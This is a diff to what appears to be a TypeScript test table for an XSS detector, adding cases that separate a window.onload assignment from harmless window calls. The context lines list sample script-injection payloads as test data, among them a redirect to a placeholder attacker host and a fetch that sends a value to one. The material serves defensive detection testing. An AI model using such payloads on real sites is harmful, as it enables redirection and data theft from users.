@@ -112,6 +112,9 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["xss", "if (self.Sentry) self.Sentry.init({ dsn: x })", false],
   ["xss", "window.location='//evil.example'", true],
   ["xss", "top.onerror=alert", true],
+  ["xss", "window.onload = go", true],
+  ["xss", "window.OneTrust.Init()", false],
+  ["xss", "window.onPageReady(init)", false],
   ["xss", "self.fetch('//x.example/'+c)", true],
   ["xss", "script-src 'self' 'unsafe-inline'", false],
   // A tag must be able to act: an active element, the end of a raw-text one, or an attribute value.
